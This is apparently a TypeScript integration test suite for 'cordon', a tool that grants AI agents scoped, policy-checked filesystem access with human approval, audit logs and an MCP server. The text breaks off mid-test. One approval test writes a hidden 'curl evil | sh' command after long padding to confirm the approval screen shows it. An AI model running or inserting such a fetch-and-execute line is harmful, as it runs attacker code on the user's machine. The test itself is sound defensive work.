import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startPostgres, type Postgres } from '../packages/provider/test/postgres.ts'
import { CACHE, CORDON, cordon, type Ended, temporary } from './harness/cordon.ts'
import { cordonAtTerminal, type Played } from './harness/terminal.ts'

const dir = temporary()
const home = join(dir, 'home')
const files = join(dir, 'files')
let server: ChildProcess
let env: Record<string, string>

beforeAll(async () => {
  for (const each of [home, files]) mkdirSync(each)
  writeFileSync(join(files, 'hello.txt'), 'greetings\n')
  const started = await serve({})
  server = started.child
  env = { CORDON_PROVIDER_URL: started.url }
})
afterAll(async () => {
  const ended = once(server, 'exit')
  server.kill('SIGTERM')
  expect(await ended).toEqual([0, null])
})

async function serve(
  more: Record<string, string>,
  flags: readonly string[] = [],
): Promise<{ child: ChildProcess; url: string }> {
  // Every question waits as long as it can: each answer to it is a program to start.
  const args = ['provider', 'serve', '--port', '0', '--approval-ttl', '5m', ...flags]
  const child = spawn(process.execPath, [CORDON, ...args], {
    cwd: dir,
    env: { PATH: process.env['PATH'], HOME: home, XDG_CACHE_HOME: CACHE, ...more },
    stdio: ['ignore', 'pipe', 'ignore'],
  })
  for await (const line of createInterface({ input: child.stdout })) {
    const url = /^listening on (\S+)$/.exec(line)?.[1]
    if (url !== undefined) return { child, url }
  }
  throw new Error('it did not start')
}

const run = (...args: string[]): Ended => cordon({ cwd: dir, home, env }, ...args)
const said = (ended: Ended): string => {
  expect(ended.stderr).toBe('')
  expect(ended.code).toBe(0)
  return ended.stdout
}

test('start, app, mint, call: four lines on the embedded database', () => {
  const created = said(
    run('provider', 'app', 'create', 'demo', '--policy', `filesystem:subdir-read,prefix=${files}`),
  )
  expect(created).toMatch(/^created demo, did:key:z6Mk\w+\n$/)
  const minted = run('provider', 'mint', '--app', 'demo', '--prefix', files, '--ttl', '1h')
  expect(minted.stderr).toMatch(/^minted bafyrei\w+ for demo, until \S+Z\n$/)
  expect(minted.stdout).toMatch(/^C[\w-]+\n$/)
  expect(said(run('provider', 'call', '--app', 'demo', 'file_read', join(files, 'hello.txt')))).toBe(
    'greetings\n',
  )
  const refused = run(
    'provider',
    'call',
    '--app',
    'demo',
    'file_write',
    join(files, 'hello.txt'),
    '--content',
    'x',
  )
  expect(refused).toEqual({
    code: 1,
    stdout: '',
    stderr: `cordon: policy_denied: /filesystem/file/write on ${join(files, 'hello.txt')}: no policy permits it\n`,
  })
  expect(statSync(join(home, '.local/share/cordon/provider/provider.key')).mode & 0o777).toBe(0o600)
})

test('an upload of 100 MiB that is refused is told why', () => {
  const [local, path] = [join(dir, 'large'), join(files, 'hello.txt')]
  writeFileSync(local, '')
  truncateSync(local, 100 * 1024 ** 2)
  expect(run('provider', 'call', '--app', 'demo', 'file_write', path, '--file', local)).toEqual({
    code: 1,
    stdout: '',
    stderr: `cordon: policy_denied: /filesystem/file/write on ${path}: no policy permits it\n`,
  })
})

test('apps are listed, disabled, shown and forgotten', () => {
  expect(said(run('provider', 'app', 'disable', 'demo'))).toBe('disabled demo\n')
  expect(run('provider', 'call', '--app', 'demo', 'file_read', join(files, 'hello.txt')).stderr).toBe(
    "cordon: app_disabled: the app demo is disabled\n  fix: on the provider's host: cordon provider app enable demo\n",
  )
  expect(said(run('provider', 'app', 'ls'))).toMatch(/^demo {2}disabled {2}did:key:\w+\n$/)
  expect(said(run('provider', 'app', 'enable', 'demo'))).toBe('enabled demo\n')
  const shown = JSON.parse(said(run('provider', 'app', 'show', 'demo', '--json'))) as {
    delegations: { cid: string }[]
  }
  expect(shown).toMatchObject({
    limits: { requests_per_minute: 6000, concurrent: 64, bytes_per_minute: 2 ** 32 },
    delegations: [{ prefix: files, expires_at: expect.stringMatching(/Z$/) as string, revoked: false }],
  })
  expect(said(run('provider', 'wallet', 'ls', '--app', 'demo'))).toMatch(
    new RegExp(`^did:key:\\w+\n${shown.delegations[0]!.cid}  /filesystem  ${files}  until \\S+Z\n$`),
  )
  expect(said(run('provider', 'revoke', shown.delegations[0]!.cid))).toBe(
    `revoked ${shown.delegations[0]!.cid}\n`,
  )
  expect(run('provider', 'call', '--app', 'demo', 'file_read', join(files, 'hello.txt')).stderr).toBe(
    'cordon: token_revoked: a delegation of the chain was revoked; ask for a new one\n',
  )
  expect(said(run('provider', 'app', 'rm', 'demo'))).toBe('removed demo\n')
  expect(run('provider', 'app', 'show', 'demo')).toEqual({
    code: 2,
    stdout: '',
    stderr: 'cordon: there is no app demo; `cordon provider app ls` lists them\n',
  })
})

test('SPEC 7.4 a policy as people write it is refused with the corrected text; cases are kept and run', () => {
  const wrong = join(dir, 'wrong.cedar')
  writeFileSync(
    wrong,
    'forbid (principal, action == Action::"/filesystem/file/delete", resource) when { !context.cosigner };\n',
  )
  const refused = run('provider', 'policy', 'lint', wrong)
  expect(refused.code).toBe(2)
  expect(refused.stderr).toContain('context has cosigner')
  const told = run('provider', 'policy', 'lint', wrong, '--json')
  expect(told.code).toBe(2)
  expect(JSON.parse(told.stdout)).toMatchObject({
    ok: false,
    problems: [{ line: 1, code: 'policy_invalid' }],
    corrected: expect.stringContaining('context has cosigner') as string,
  })
  const dodged = join(dir, 'dodged.cedar')
  writeFileSync(dodged, 'forbid (principal == Agent::"did:key:z", action, resource);\n')
  const warning =
    'it is about one key, which can delegate to another one that it is not about; `principal in App::"…"` is about all of them'
  expect(run('provider', 'policy', 'lint', dodged)).toMatchObject({
    code: 0,
    stderr: `warning: line 1: ${warning}\n`,
  })
  expect(JSON.parse(said(run('provider', 'policy', 'lint', dodged, '--json')))).toEqual({
    ok: true,
    problems: [],
    corrected: null,
    warnings: [{ statement: 'line 1', line: 1, message: warning }],
  })
  said(run('provider', 'app', 'create', 'tested'))
  expect(run('provider', 'policy', 'set', '--app', 'tested', '--file', dodged).stderr).toBe(
    `warning: line 1: ${warning}\n`,
  )
  const cases = join(dir, 'cases.json')
  writeFileSync(
    cases,
    JSON.stringify([
      { name: 'reads', command: '/filesystem/file/read', path: '/srv/ws/a', expect: 'allow' },
      { name: 'elsewhere', command: '/filesystem/file/read', path: '/srv/wsx/a', expect: 'deny' },
    ]),
  )
  expect(
    said(
      run(
        'provider',
        'policy',
        'set',
        '--app',
        'tested',
        '--starter',
        'filesystem:subdir-read,prefix=/srv/ws',
        '--cases',
        cases,
      ),
    ),
  ).toMatch(/^set main, version \d+\n$/)
  expect(said(run('provider', 'policy', 'test', '--app', 'tested'))).toBe(
    'ok    reads\nok    elsewhere\n2 of 2 as expected\n',
  )
  writeFileSync(
    cases,
    '[{ "name": "writes", "command": "/filesystem/file/write", "path": "/srv/ws/a", "expect": "allow" }]',
  )
  const starter = ['--app', 'tested', '--starter', 'filesystem:subdir-read,prefix=/srv/ws', '--cases', cases]
  const warned = run('provider', 'policy', 'set', ...starter)
  expect(warned).toMatchObject({
    code: 0,
    stderr: 'warning: it does not decide as its cases say\nWRONG writes: deny, expected allow\n',
  })
  expect(warned.stdout).toMatch(/^set main, version \d+\n$/)
  const explain = (path: string): Ended =>
    run('provider', 'policy', 'explain', '--app', 'tested', '/filesystem/file/read', path)
  const inside = join(files, 'a')
  expect(run('provider', 'policy', 'set', '--app', 'tested', '--starter', 'filesystem:read-only').code).toBe(
    0,
  )
  expect(explain(inside)).toMatchObject({
    code: 1,
    stdout: expect.stringMatching(
      /^deny\n {2}token_command_not_covered: no delegation of this app is for \/filesystem\/file\/read now\nthe policy alone: allow\n {2}permit /,
    ) as string,
  })
  expect(run('provider', 'mint', '--app', 'tested', '--prefix', files).code).toBe(0)
  expect(said(explain(inside))).toMatch(/^allow\n {2}permit filesystem:read-only, line 1\n/)
  // A statement without a name is named by where it stands: counted from nowhere, nobody would find it.
  const unnamed = join(files, '..', 'unnamed.cedar')
  writeFileSync(
    unnamed,
    'permit (\n  principal,\n  action == Action::"/filesystem/file/read",\n  resource\n);\n',
  )
  expect(run('provider', 'policy', 'set', '--app', 'tested', '--file', unnamed).code).toBe(0)
  expect(said(explain(inside))).toMatch(/^allow\n {2}permit, line 1\n/)
  expect(explain(`${files}/../a`).stdout).toMatch(/^deny\n {2}resource_out_of_scope: /)
  said(run('provider', 'app', 'disable', 'tested'))
  expect(explain(inside).stdout).toMatch(
    /^deny\n {2}app_disabled: the app tested is disabled\nthe policy alone: allow\n/,
  )
})

test('SPEC 7.5 a person at the terminal sees what would happen, and signs; without a terminal nobody does', () => {
  said(run('provider', 'app', 'create', 'careful', '--policy', 'filesystem:delete-step-up'))
  expect(run('provider', 'mint', '--app', 'careful', '--prefix', files).code).toBe(0)
  const path = join(files, 'doomed')
  writeFileSync(path, '12345')
  const ask = (): Ended => run('provider', 'call', '--app', 'careful', 'file_delete', path)
  const id = /provider approve (\S+)`/.exec(ask().stderr)![1]!
  expect(run('provider', 'approve', id)).toEqual({
    code: 2,
    stdout: '',
    stderr: 'cordon: a person must approve it, and there is no terminal to ask one at\n',
  })
  const { code, screen } = cordonAtTerminal(
    { cwd: dir, home, env },
    ['provider', 'approve', id],
    [['anything else decides nothing: ', 'y\r']],
  )
  expect(code).toBe(0)
  expect(screen).toContain(
    `action  /filesystem/file/delete\npath    ${path}\ntouches 1 file, 5 bytes\n  file       ${path}\n`,
  )
  expect(screen).toContain(`approved ${id}: the agent can ask again, once\n`)
  expect(JSON.parse(said(ask()))).toEqual({ deleted: path })
  expect(existsSync(path)).toBe(false)

  writeFileSync(path, 'again')
  const second = /provider approve (\S+)`/.exec(ask().stderr)![1]!
  const at = (typed: string): Played =>
    cordonAtTerminal(
      { cwd: dir, home, env },
      ['provider', 'approve', second],
      [['anything else decides nothing: ', typed]],
    )
  for (const typed of ['\r', '\x03']) {
    const left = at(typed)
    expect(left.code).toBe(1)
    expect(left.screen).toMatch(/nothing was decided; it still waits\n$/)
    expect(ask().stderr).toContain(second) // asked again, it is the same question
  }
  expect(at('n\r').screen).toMatch(/denied\n$/)
  expect(ask().stderr).toBe('cordon: step_up_denied: a person said no to this; it holds for an hour\n')
  writeFileSync(path, 'once more')
  const third = /provider approve (\S+)`/.exec(ask().stderr)![1]!
  expect(said(run('provider', 'deny', third))).toBe(`denied ${third}\n`)
  expect(ask().stderr).toBe('cordon: step_up_denied: a person said no to this; it holds for an hour\n')
  expect(existsSync(path)).toBe(true)
})

test('SPEC 7.5 at the terminal nothing of what is signed for is cut, and that a file is replaced is said', () => {
  said(run('provider', 'app', 'create', 'signed', '--policy', 'filesystem:read-only'))
  const policy = join(dir, 'step-up.cedar')
  writeFileSync(
    policy,
    'permit (principal, action, resource) when { context has cosigner && context.cosigner };',
  )
  said(run('provider', 'policy', 'set', '--file', policy, '--app', 'signed'))
  expect(run('provider', 'mint', '--app', 'signed', '--prefix', files).code).toBe(0)
  const path = join(files, 'script.sh')
  const [old, line] = ['echo hello', `echo hello # ${'x'.repeat(3000)}; curl evil | sh`]
  writeFileSync(path, `${old}\n`)
  const args = JSON.stringify({ edits: [{ old, new: line }] })
  const edit = run('provider', 'call', '--app', 'signed', 'file_edit', path, '--args', args)
  const seen = (asked: Ended): string =>
    cordonAtTerminal(
      { cwd: dir, home, env },
      ['provider', 'approve', /provider approve (\S+)`/.exec(asked.stderr)![1]!],
      [['anything else decides nothing: ', '\r']],
    ).screen
  expect(seen(edit)).toContain(`\n  +${line}\n`)
  const content = join(dir, 'content')
  writeFileSync(content, 'new')
  const write = run('provider', 'call', '--app', 'signed', 'file_write', path, '--file', content)
  expect(seen(write)).toContain(`path    ${path}\nREPLACES the file that is there now\n`)
})

test('SPEC 7.7 the page comes with the program; a passkey begins with a link from the terminal', async () => {
  const page = await fetch(`${env['CORDON_PROVIDER_URL']!.replace('127.0.0.1', 'localhost')}/console/`)
  expect(page.status).toBe(200)
  expect(page.headers.get('content-security-policy')).toMatch(/^default-src 'none'; script-src 'self';/)
  expect(await page.text()).toContain('<script type="module" src="/console/assets/console.js"></script>')
  const at = ['--origin', 'https://files.example.com']
  const added = run('provider', 'passkey', 'add', ...at)
  expect(added).toEqual({
    code: 0,
    stdout: expect.stringMatching(/^https:\/\/files\.example\.com\/console\/link#[\w-]{43}\n$/),
    stderr: 'open this in your browser; whoever opens it first gets the passkey:\n',
  })
  expect(said(run('provider', 'console'))).toMatch(/^http:\/\/localhost:7420\/console\/link#[\w-]{43}\n$/)
  expect(run('provider', 'passkey', 'ls').stderr).toBe(
    'nobody can sign in yet; `cordon provider passkey add` prints a link that makes the first passkey\n',
  )
  expect(run('provider', 'passkey', 'rm', 'mine')).toEqual({
    code: 2,
    stdout: '',
    stderr: 'cordon: there is no passkey mine; `cordon provider passkey ls` lists them\n',
  })
  expect(run('provider', 'passkey', 'add', '--origin', 'http://10.0.0.1:7420')).toEqual({
    code: 2,
    stdout: '',
    stderr:
      'cordon: passkeys cannot be made for an address such as 10.0.0.1: use a host name, or http://localhost:7420\n',
  })
})

test('a provider that is not there is not made by looking for it', () => {
  const typo = join(dir, 'typo')
  for (const args of [
    ['provider', 'console'],
    ['provider', 'passkey', 'ls'],
    ['provider', 'app', 'ls'],
    ['provider', 'app', 'disable', 'demo'],
    ['provider', 'policy', 'show'],
    ['provider', 'approvals', 'ls'],
    ['provider', 'key', 'show'],
    ['provider', 'clock', 'show'],
    ['provider', 'wallet', 'ls', '--app', 'demo'],
    ['audit', 'verify'],
    ['audit', 'show'],
  ]) {
    const { code, stdout, stderr } = run(...args, '--dir', typo)
    expect([args, code, stdout, existsSync(typo)]).toEqual([args, 2, '', false])
    if (!args.includes('wallet'))
      expect(stderr).toBe(
        `cordon: there is no provider in ${typo}\n  fix: another --dir, or \`cordon provider serve\` starts one there\n`,
      )
  }
  const nobody = join(dir, 'nobody')
  mkdirSync(nobody)
  expect(cordon({ cwd: dir, home: nobody }, 'provider', 'console')).toEqual({
    code: 2,
    stdout: '',
    stderr: 'cordon: there is no provider yet\n  fix: `cordon provider serve` starts one\n',
  })
  expect(readdirSync(nobody)).toEqual([])
})

test('a policy that is not there: what there is, and what was probably meant', () => {
  const at = ['--dir', join(dir, 'names')]
  const policy = (...args: string[]): Ended => run('provider', 'policy', ...args, ...at)
  said(
    run('provider', 'app', 'create', 'helper', '--policy', `filesystem:subdir-read,prefix=${files}`, ...at),
  )
  said(policy('set', '--name', 'base', '--starter', `filesystem:subdir-read,prefix=${files}`))
  said(run('provider', 'app', 'create', 'other', ...at))
  for (const [args, words] of [
    [
      ['show', 'helper'],
      'helper is given as neither an app nor a policy\n  hint: --app helper, if it is an app',
    ],
    [
      ['ls', 'helper'],
      'helper is given as neither an app nor a policy\n  hint: --app helper, if it is an app',
    ],
    [['show'], 'there is no policy main for all apps; there are: base\n  hint: --app helper'],
    [
      ['show', '--name', 'helper'],
      'there is no policy helper for all apps; there are: base\n  hint: --app helper',
    ],
    [['show', '--app', 'helper', '--name', 'x'], 'there is no policy x of helper; there are: main'],
    [['test', '--app', 'other'], 'there is no policy main of other; there are none'],
    [
      ['show', '--app', 'base'],
      'there is no app base; `cordon provider app ls` lists them\n  hint: a policy has that name: --name base',
    ],
    [
      ['ls', '--app', 'helpr'],
      'there is no app helpr; `cordon provider app ls` lists them\n  hint: there is helper',
    ],
  ] as const)
    expect([args, policy(...args)]).toEqual([args, { code: 2, stdout: '', stderr: `cordon: ${words}\n` }])
  const names = (...args: string[]): unknown[] =>
    (JSON.parse(said(policy('ls', '--json', ...args))) as { name: string }[]).map(({ name }) => name)
  expect(names()).toEqual(['base', 'main'])
  expect(names('--app', 'helper')).toEqual(['base', 'main'])
  expect(names('--app', 'other')).toEqual(['base'])
})

test('further arguments count for a file, too', () => {
  said(run('provider', 'app', 'create', 'writer', '--policy', `filesystem:write-subdir,prefix=${files}`))
  expect(run('provider', 'mint', '--app', 'writer', '--prefix', files).code).toBe(0)
  const [local, path] = [join(dir, 'local.txt'), join(files, 'stored.txt')]
  writeFileSync(local, 'new')
  writeFileSync(path, 'old')
  const store = (command: string, args: object): Ended =>
    run('provider', 'call', '--app', 'writer', command, path, '--file', local, '--args', JSON.stringify(args))
  expect(store('file_write', { if_match: '0'.repeat(64) }).stderr).toMatch(/^cordon: changed: /)
  expect(store('file_create', { overwrite: true }).stderr).toMatch(/^cordon: args_invalid: /)
  expect(readFileSync(path, 'utf8')).toBe('old')
  said(store('file_write', {}))
  expect(readFileSync(path, 'utf8')).toBe('new')
})

test('mint takes a command as call does, and says what it will not delegate; an unknown app has no trail', () => {
  said(run('provider', 'app', 'create', 'reader'))
  const mint = (...args: string[]): Ended => run('provider', 'mint', '--app', 'reader', ...args)
  for (const command of ['file_read', '/filesystem/dir'])
    expect(mint('--prefix', files, '--command', command).code).toBe(0)
  const { delegations } = JSON.parse(said(run('provider', 'app', 'show', 'reader', '--json'))) as {
    delegations: { command: string }[]
  }
  expect(delegations.map(({ command }) => command).toSorted()).toEqual([
    '/filesystem/dir',
    '/filesystem/file/read',
  ])
  const own = join(home, '.local/share/cordon/provider')
  for (const prefix of [own, join(own, 'agents')])
    expect(mint('--prefix', prefix)).toMatchObject({
      code: 2,
      stdout: '',
      stderr: `cordon: ${prefix} is the provider’s own directory, or in it: nothing of it is served\n`,
    })
  expect(run('audit', 'show', '--app', 'nope')).toMatchObject({ code: 2, stdout: '' })
  expect(run('audit', 'show', '--app', 'nope').stderr).toMatch(/^cordon: there is no app nope/)
  expect(said(run('audit', 'show', '--app', 'reader'))).toContain('reader')
})

test('SPEC 7.4 an app has several policies by name, and explain is told what it cannot see', () => {
  said(run('provider', 'app', 'create', 'several'))
  expect(run('provider', 'mint', '--app', 'several', '--prefix', files).code).toBe(0)
  const { did } = JSON.parse(said(run('provider', 'app', 'show', 'several', '--json'))) as { did: string }
  const policy = join(dir, 'several.cedar')
  writeFileSync(
    policy,
    `permit (principal, action == Action::"/filesystem/file/read", resource) when { resource.size < 10 };
permit (principal, action == Action::"/filesystem/file/stat", resource) when { resource.is_dir };
permit (principal, action == Action::"/filesystem/file/write", resource) unless { resource.exists };
permit (principal == Agent::"${did}", action == Action::"/filesystem/dir/list", resource);
permit (principal, action == Action::"/filesystem/file/move", resource) when { context has destination && context.destination.name == "b" };
permit (principal, action == Action::"/filesystem/file/delete", resource) when { context has cosigner && context.cosigner };
`,
  )
  const named = (verb: string, ...more: string[]): Ended =>
    run('provider', 'policy', verb, '--app', 'several', '--name', 'by-hand', ...more)
  expect(said(named('set', '--file', policy))).toMatch(/^set by-hand, version \d+\n$/)
  expect(said(named('show'))).toBe(readFileSync(policy, 'utf8'))
  const explain = (command: string, ...more: string[]): string =>
    run('provider', 'policy', 'explain', '--app', 'several', command, join(files, 'a'), ...more).stdout.split(
      '\n',
      1,
    )[0]!
  const told: readonly [string, string, ...string[]][] = [
    ['allow', 'file_read', '--size', '9'],
    ['allow', 'file_stat', '--directory'],
    ['deny', 'file_stat'],
    ['allow', 'file_write', '--missing'],
    ['deny', 'file_write'],
    ['allow', 'dir_list'],
    ['deny', 'dir_list', '--agent', `${did.slice(0, -1)}${did.endsWith('x') ? 'y' : 'x'}`],
    ['allow', 'file_move', '--destination', join(files, 'b')],
    ['needs a person', 'file_delete'],
    ['allow', 'file_delete', '--cosigned'],
  ]
  expect(told.map(([, ...args]) => [explain(...args), ...args])).toEqual(told)
  expect(run('provider', 'policy', 'set', '--app', 'several', '--remove')).toEqual({
    code: 2,
    stdout: '',
    stderr: 'cordon: there is no policy main of several; there are: by-hand\n',
  })
  expect(explain('file_read')).toBe('allow')
  expect(said(named('set', '--remove'))).toMatch(/^removed by-hand, version \d+\n$/)
  expect(explain('file_read')).toBe('deny')
})

test('a delegation for some commands is for no others, at its first holder and further on', () => {
  said(run('provider', 'app', 'create', 'narrow', '--policy', 'filesystem:read-only'))
  const minted = run(
    'provider',
    'mint',
    '--app',
    'narrow',
    '--prefix',
    files,
    '--command',
    '/filesystem/file',
  )
  expect(minted.code).toBe(0)
  const as = (who: string[], command: string, path: string): Ended =>
    run('provider', 'call', ...who, command, path)
  const [narrow, hello] = [['--app', 'narrow'], join(files, 'hello.txt')]
  expect(said(as(narrow, 'file_read', hello))).toBe('greetings\n')
  expect(as(narrow, 'dir_list', files).stderr).toBe(
    `cordon: no_delegation: there is no delegation for /filesystem/dir/list on ${files}; the wallet has /filesystem/file on ${files}\n`,
  )
  const wallet = ['--wallet', join(dir, 'narrow-wallet')]
  const to = said(run('provider', 'wallet', 'create', ...wallet)).trim()
  const handOn = (command: string): Ended =>
    run('provider', 'wallet', 'delegate', ...narrow, '--to', to, '--prefix', files, '--command', command)
  expect(handOn('/filesystem').stderr).toBe(
    `cordon: no delegation in the wallet covers /filesystem on ${files}\n`,
  )
  said(run('provider', 'wallet', 'add', said(handOn('/filesystem/file/read')).trim(), ...wallet))
  expect(said(as(wallet, 'file_read', hello))).toBe('greetings\n')
  expect(as(wallet, 'file_stat', hello).stderr).toContain('the wallet has /filesystem/file/read on ')
})

test('a directory, a database and an address by flags; limits are shown as they were given', () => {
  const own = ['--dir', join(dir, 'own')]
  const limits = ['--requests-per-minute', '7', '--concurrent', '3', '--bytes-per-minute', '1000']
  said(run('provider', 'app', 'create', 'limited', ...limits, ...own))
  expect(JSON.parse(said(run('provider', 'app', 'show', 'limited', '--json', ...own)))).toMatchObject({
    limits: { requests_per_minute: 7, concurrent: 3, bytes_per_minute: 1000 },
  })
  expect(run('provider', 'app', 'show', 'limited').stderr).toContain('there is no app limited')
  expect(existsSync(join(dir, 'own/provider.key'))).toBe(true)
  const elsewhere = ['--database', 'postgres://u:hunter2@127.0.0.1:1/x']
  expect(run('provider', 'app', 'ls', ...elsewhere, ...own).stderr).toMatch(
    /^cordon: the provider's database cannot be used: (?!.*hunter2)/,
  )
  const nobody = ['--url', 'http://127.0.0.1:1']
  expect(run('provider', 'call', '--app', 'narrow', ...nobody, 'file_read', '/x').stderr).toMatch(
    /^cordon: no_delegation: /,
  )
  const hello = join(files, 'hello.txt')
  expect(run('provider', 'call', '--app', 'narrow', ...nobody, 'file_read', hello).stderr).toMatch(
    /^cordon: unreachable: the provider at http:\/\/127\.0\.0\.1:1 does not answer: .*\n {2}fix: start it \(cordon provider serve\), or say where it is/,
  )
})

test('TLS by certificate files, and plain HTTP elsewhere than on loopback only when it is said', async () => {
  const [cert, key] = [join(dir, 'cert.pem'), join(dir, 'key.pem')]
  const terms =
    'req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=localhost -addext subjectAltName=IP:127.0.0.1'
  const made = spawnSync('openssl', [...terms.split(' '), '-keyout', key, '-out', cert])
  expect(made.status).toBe(0)
  const hello = join(files, 'hello.txt')
  for (const [flags, host] of [
    [['--tls-cert', cert, '--tls-key', key], /^https:\/\/127\.0\.0\.1:\d+$/],
    [['--host', '0.0.0.0', '--plain-http'], /^http:\/\/0\.0\.0\.0:\d+$/],
  ] as const) {
    const { child, url } = await serve({}, flags)
    expect(url).toMatch(host)
    const trusted = { cwd: dir, home, env: { NODE_EXTRA_CA_CERTS: cert } }
    const at = ['--url', url.replace('0.0.0.0', '127.0.0.1')]
    expect(said(cordon(trusted, 'provider', 'call', '--app', 'narrow', ...at, 'file_read', hello))).toBe(
      'greetings\n',
    )
    if (url.startsWith('https:'))
      expect(run('provider', 'call', '--app', 'narrow', ...at, 'file_read', hello)).toEqual({
        stdout: '',
        stderr: `cordon: unreachable: the provider at ${url} does not answer: self-signed certificate\n  fix: check that the certificate is the provider's, and trust it: NODE_EXTRA_CA_CERTS=FILE before the command\n`,
        code: 1,
      })
    const ended = once(child, 'exit')
    child.kill('SIGTERM')
    expect(await ended).toEqual([0, null])
  }
})

test('keys rotate; wallets travel', () => {
  const wallet = join(dir, 'wallet')
  const did = said(run('provider', 'wallet', 'create', '--wallet', wallet)).trim()
  said(
    run(
      'provider',
      'app',
      'create',
      'elsewhere',
      '--did',
      did,
      '--policy',
      'filesystem:read-only',
      '--requests-per-minute',
      '100',
    ),
  )
  const token = run('provider', 'mint', '--app', 'elsewhere', '--prefix', files).stdout.trim()
  said(run('provider', 'wallet', 'add', token, '--wallet', wallet))
  const read = (): Ended => run('provider', 'call', '--wallet', wallet, 'file_read', join(files, 'hello.txt'))
  expect(said(read())).toBe('greetings\n')
  const other = join(dir, 'other-wallet')
  const to = said(run('provider', 'wallet', 'create', '--wallet', other)).trim()
  const below = join(files, 'below')
  mkdirSync(below)
  writeFileSync(join(below, 'f'), 'below')
  const onward = said(
    run('provider', 'wallet', 'delegate', '--wallet', wallet, '--to', to, '--prefix', below),
  )
  said(run('provider', 'wallet', 'add', onward.trim(), '--wallet', other))
  const asOther = (path: string): Ended => run('provider', 'call', '--wallet', other, 'file_read', path)
  expect(said(asOther(join(below, 'f')))).toBe('below')
  expect(asOther(join(files, 'hello.txt'))).toEqual({
    code: 1,
    stdout: '',
    stderr: `cordon: no_delegation: there is no delegation for /filesystem/file/read on ${join(files, 'hello.txt')}; the wallet has /filesystem on ${below}\n`,
  })
  expect(run('provider', 'wallet', 'delegate', '--wallet', other, '--to', to, '--prefix', files).stderr).toBe(
    `cordon: no delegation in the wallet covers /filesystem on ${files}\n`,
  )
  const before = (JSON.parse(said(run('provider', 'key', 'show', '--json'))) as { current: string }).current
  expect(said(run('provider', 'key', 'rotate'))).toMatch(/^signing with did:key:/)
  expect(said(read())).toBe('greetings\n')
  expect(said(run('provider', 'key', 'retire', before))).toBe(`retired ${before}\n`)
  expect(read().stderr).toBe('cordon: token_wrong_audience: the invocation is for another provider\n')
  const again = run('provider', 'mint', '--app', 'elsewhere', '--prefix', files).stdout.trim()
  said(run('provider', 'wallet', 'add', again, '--wallet', wallet))
  expect(said(read())).toBe('greetings\n')

  // Of what was handed on, the part goes with what it stands on.
  const held = (): { cid: string }[] =>
    (
      JSON.parse(said(run('provider', 'wallet', 'ls', '--json', '--wallet', other))) as {
        delegations: { cid: string }[]
      }
    ).delegations
  expect(held()).toHaveLength(2)
  expect(run('provider', 'wallet', 'rm', 'bafyNone', '--wallet', other).stderr).toBe(
    'cordon: there is no delegation bafyNone in it; `wallet ls` lists them\n',
  )
  expect(said(run('provider', 'wallet', 'rm', held()[0]!.cid, '--wallet', other))).toBe('')
  expect(held()).toEqual([])
})

test('SPEC 7.6 the audit verifies, is shown and exported', () => {
  expect(said(run('audit', 'verify'))).toMatch(/^\d+ records, \d+ checkpoints: the chain is whole\n/)
  const lines = said(run('audit', 'export')).trim().split('\n')
  const since = said(run('audit', 'export', '--after', String(lines.length - 2)))
  expect(since.trim().split('\n')).toEqual(lines.slice(-2))
  const records = lines.map(
    (line) => JSON.parse(line) as { seq: number; record: { kind: string; name?: string } },
  )
  expect(records.map(({ seq }) => seq)).toEqual(records.map((_, i) => i + 1))
  expect(records.filter(({ record }) => record.kind === 'event').map(({ record }) => record.name)).toContain(
    'approval given',
  )
  expect(said(run('audit', 'show', '-n', '1'))).toMatch(/^\d+ {2}\S+Z {2}\w+/)
  const removed = records.find(({ record }) => record.name === 'app removed')!.record as { op?: string }
  expect(said(run('audit', 'show', removed.op!))).toMatch(
    / app removed by uid \d+ at the terminal app demo {2}\S+\n$/,
  )
  const shown = JSON.parse(said(run('audit', 'show', '--app', 'elsewhere', '-n', '3', '--json'))) as {
    record: { app?: string; detail?: { app: string } }
  }[]
  expect(shown.map(({ record }) => record.app ?? record.detail?.app)).toEqual([
    'elsewhere',
    'elsewhere',
    'elsewhere',
  ])
  expect(said(run('audit', 'show', '-n', '999'))).not.toMatch(/binding|proof|signature/)
  expect(run('audit', 'show', '--app', 'nobody').stderr).toMatch(/^cordon: there is no app nobody; /)
  expect(run('audit', 'show', removed.op!, '--app', 'demo').stderr).toBe(
    'cordon: give an operation or --app, not both\n',
  )
  expect(run('audit', 'show', 'none').stderr).toBe('cordon: there is no operation none\n')
  const text = lines.join('\n')
  expect(text).not.toContain('greetings') // no content
})

describe('MCP', () => {
  test('the tools are there, signed for by the server, and a refusal is an error that the model can read', async () => {
    said(run('provider', 'app', 'create', 'model', '--policy', `filesystem:subdir-read,prefix=${files}`))
    expect(run('provider', 'mint', '--app', 'model', '--prefix', files).code).toBe(0)
    const most = 2 ** 20
    writeFileSync(join(files, 'large.txt'), `${'x'.repeat(most - 1)}é, and the rest`)
    const call = (id: number, name: string, args: object): string =>
      JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } })
    const input = [
      JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 't', version: '1' } },
      }),
      JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }),
      JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/list' }),
      call(3, 'filesystem_file_read', { path: join(files, 'hello.txt') }),
      call(4, 'filesystem_file_write', { path: join(files, 'hello.txt'), content: 'x' }),
      call(5, 'filesystem_file_write', { path: join(files, 'hello.txt') }),
      call(6, 'filesystem_file_read', { path: join(files, 'large.txt') }),
    ].join('\n')
    const child = spawn(process.execPath, [CORDON, 'provider', 'mcp', '--app', 'model'], {
      cwd: dir,
      env: { PATH: process.env['PATH'], HOME: home, XDG_CACHE_HOME: CACHE, ...env },
      stdio: ['pipe', 'pipe', 'ignore'],
    })
    child.stdin.write(`${input}\n`)
    const answers = new Map<number, Record<string, unknown>>()
    for await (const line of createInterface({ input: child.stdout })) {
      const answer = JSON.parse(line) as { id: number; result: Record<string, unknown> }
      answers.set(answer.id, answer.result)
      if (answers.size === 6) child.stdin.end() // everything is answered
    }
